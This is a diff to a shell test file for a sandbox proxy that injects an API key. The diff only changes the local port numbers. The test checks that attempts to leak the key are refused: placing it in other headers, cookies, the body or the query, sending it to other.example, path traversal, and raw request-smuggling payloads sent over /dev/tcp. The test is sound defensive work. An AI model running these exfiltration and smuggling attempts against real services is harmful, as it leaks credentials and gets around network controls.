@@ -60,7 +60,7 @@ P'
 
 # Other headers, the query, the body, other services, hosts and paths, and requests that two parsers read differently.
 @test "60 A7 J7: the secret goes into one header, to one host, on listed paths; smuggling is refused" {
-  attack 'd=$ANTHROPIC_API_KEY b=$ANTHROPIC_BASE_URL h=http://127.0.0.1:43129
+  attack 'd=$ANTHROPIC_API_KEY b=$ANTHROPIC_BASE_URL h=http://127.0.0.1:23129
     ok() { curl -sS -o /dev/null -w "%{http_code} " "$@"; }
     ok -H "x-other: $d" -H "cookie: $d" -d "in the body $d" "$b/v1/messages?key=$d"
     ok -H "x-api-key: $d" "$b/api/oauth/claude_cli/create_api_key" -d x
@@ -70,7 +70,7 @@ P'
     ok -H "x-api-key: $d" -x "$h" http://other.example/
     ok -H "x-api-key: $d" -H "Host: other.example" -d host "$b/v1/messages"
     ok -H "x-api-key: $d" -H "Upgrade: websocket" -H "Connection: Upgrade" "$b/v1/messages"
-    raw() { exec 5<>/dev/tcp/127.0.0.1/43129; printf "$1" >&5; IFS=" " read -r _ status _ <&5; echo "$status"; exec 5>&-; }
+    raw() { exec 5<>/dev/tcp/127.0.0.1/23129; printf "$1" >&5; IFS=" " read -r _ status _ <&5; echo "$status"; exec 5>&-; }
     trap "" PIPE
     raw "POST /anthropic/v1/messages HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nContent-Length: 5\r\n\r\nx"
     raw "POST /anthropic/v1/messages HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
@@ -103,7 +103,7 @@ P'
     ok -H "$bearer" --path-as-is "$h/v1/models/../../api/oauth"
     ok -H "$bearer" -H "Upgrade: websocket" -H "Connection: Upgrade" "$h/v1/messages"
     ok -H "$bearer" https://auth.openai.com/
-    echo; exec 5<>/dev/tcp/127.0.0.1/43128; printf "CONNECT api.anthropic.com:443 HTTP/1.1\r\nHost: x\r\n\r\nGET / HTTP/1.1\r\nHost: x\r\n\r\n" >&5; timeout 20 cat <&5 | head -c 12; echo; exec 5>&-
+    echo; exec 5<>/dev/tcp/127.0.0.1/23128; printf "CONNECT api.anthropic.com:443 HTTP/1.1\r\nHost: x\r\n\r\nGET / HTTP/1.1\r\nHost: x\r\n\r\n" >&5; timeout 20 cat <&5 | head -c 12; echo; exec 5>&-
     ok -H "$bearer" -d last "$h/v1/messages"
     openssl x509 -in /run/garth/authority.pem -noout -ext nameConstraints
     grep -c "BEGIN CERT" "$SSL_CERT_FILE"
